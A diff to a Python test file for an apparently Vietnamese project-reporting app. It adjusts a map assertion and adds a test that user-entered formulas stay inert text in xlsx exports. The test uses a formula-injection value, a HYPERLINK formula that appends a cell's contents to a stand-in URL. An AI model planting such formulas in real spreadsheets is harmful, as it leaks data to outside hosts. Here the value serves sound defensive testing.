@@ -66,8 +66,11 @@ def test_only_accepted_reports_count(small_cycle, world):
     market = next(p for p in report.projects if p.code == "TM-99")
     assert market.reported is None  # submitted, not yet accepted: not in the report
     assert report.governing_body is None and report.place == ""  # the world has no committee
-    # The world's districts ended on 30 June 2025: none is valid on the 2025 deadline.
-    assert report.units == [] and report.map_units == []
+    # The world's districts ended on 30 June 2025: none is valid on the 2025 deadline, so none
+    # groups the projects; the map still draws them, dated, as the map pages do.
+    assert report.units == []
+    drawn = [u for u in report.map_units if u.level != "province"]
+    assert drawn and {u.valid_to for u in drawn} == {datetime.date(2025, 6, 30)}
     text = docx_text(annual.docx_bytes(report, map_image=annual.map_png(report)))
     assert "chưa tổng hợp được theo địa bàn" in text
     assert "ngày      tháng      năm 2025" in text and "Dự thảo" in text  # open: a draft
@@ -144,3 +147,23 @@ def test_unknown_years_and_formats_are_404(small_cycle, planner):
     assert client.get("/reports/2031/report.docx").status_code == 404
     response = client.get("/reports/2025/report.pdf")
     assert response.status_code == 404 and b"report.docx or report.xlsx" in response.content
+
+
+def test_a_formula_stays_text_and_a_unit_name_is_not_mathematics(small_cycle, world):
+    """What an agency types may start like a spreadsheet formula, and a unit's name (from an
+    imported file) may hold dollar signs, which matplotlib would read as mathematics."""
+    from projects.models import AdminUnit, Submission
+
+    formula = '=HYPERLINK("http://example.invalid/?"&B2,"Chi tiết")'
+    sct = small_cycle.submissions.get(agency__code="SCT")
+    Submission.objects.filter(pk=sct.pk).update(proposals=formula)
+    sct.refresh_from_db()
+    actions.accept_submission(sct, expected_version=sct.version)
+    AdminUnit.objects.exclude(level="province").update(name=r"Phường $\frac$ {x}$")
+    report = gather(small_cycle)
+    png = annual.map_png(report)
+    assert png.startswith(b"\x89PNG")
+    book = load_workbook(io.BytesIO(annual.xlsx_bytes(report)))
+    cells = [c for row in book["Khó khăn, kiến nghị"].iter_rows(min_row=2) for c in row
+             if c.value == formula]  # fmt: skip
+    assert cells and all(c.data_type == "s" for c in cells)  # text, never a live formula
